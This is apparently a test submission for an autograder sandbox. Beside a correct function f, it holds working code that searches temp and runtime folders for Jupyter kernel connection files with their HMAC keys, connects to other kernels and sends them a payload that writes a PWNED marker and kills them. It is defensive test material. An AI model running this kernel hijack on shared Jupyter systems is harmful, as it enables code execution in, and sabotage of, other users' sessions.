"""A correct f, and in the same cell an attempt to take over the other grading kernels: it reads
every kernel connection file it can find (the Jupyter runtime folder, and every small .json
holding a "key" and a "shell_port" in /tmp, $TMPDIR and /dev/shm, a few levels deep: jupyter_client
writes them as /tmp/tmpXXXX.json), with the HMAC key in it, connects with jupyter_client's
BlockingKernelClient (about a second per kernel, four in all) and asks each kernel to write a
PWNED-hijacks_other_kernels file into its own folder and then to die (os._exit). The code it
sends acts only in a kernel running inside the same course directory as this one, so that
another grading run on the machine is never touched. What must happen: the kernel finds no
connection file but its own, no other kernel can be reached (no network, separate /tmp and
HOME), no PWNED- file appears, every other student keeps their score, and this submission
scores full marks."""

LOSES = []

# %% f
import glob
import os
import pathlib
import time


def _connection_files():
    places = [pathlib.Path.home() / ".local" / "share" / "jupyter" / "runtime"]
    try:
        from jupyter_core.paths import jupyter_runtime_dir
        places.append(pathlib.Path(jupyter_runtime_dir()))
    except Exception:
        pass
    found = set()
    for place in places:
        found.update(glob.glob(str(place / "kernel-*.json")))
    for top in ("/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
        seen = 0
        for folder, subfolders, files in os.walk(top):
            seen += 1
            if seen > 3000 or folder.count(os.sep) - top.count(os.sep) >= 5:
                subfolders[:] = []
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if name.endswith(".json") and os.path.getsize(path) < 4096:
                        text = open(path).read()
                        if '"key"' in text and '"shell_port"' in text:
                            found.add(path)
                except OSError:
                    pass
    return sorted(found)[:40]


def _hijack_other_kernels():
    from jupyter_client import BlockingKernelClient
    mark = "PWNED" + "-hijacks_other_kernels"
    here = pathlib.Path(os.getcwd()).resolve()
    root = next((d for d in (here, *here.parents) if (d / "nbgrader_config.py").is_file()
                 or (d / "gradebook.db").is_file()), None)
    try:
        from ipykernel import get_connection_file
        mine = os.path.realpath(get_connection_file())
    except Exception:
        mine = None
    payload = (f"import os\n_root = {str(root or '')!r}\n_cwd = os.getcwd()\n"
               "if (_root and _cwd.startswith(_root)) or "
               "(not _root and ('submitted' in _cwd or 'autograded' in _cwd)):\n"
               f"    open(os.path.join(_cwd, {mark + '.txt'!r}), 'w').write({mark!r})\n"
               "    os._exit(3)\n")
    reached, deadline = 0, time.monotonic() + 3.5
    for path in _connection_files():
        if os.path.realpath(path) == mine or time.monotonic() > deadline:
            continue
        client = BlockingKernelClient(connection_file=path)
        try:
            client.load_connection_file()
            client.start_channels()
            client.execute(payload, store_history=False)
            client.get_shell_msg(timeout=1)
            reached += 1
        except Exception:
            pass
        finally:
            client.stop_channels()
    return reached


try:
    print(f"reached {_hijack_other_kernels()} kernels")
except Exception as error:
    print("blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2
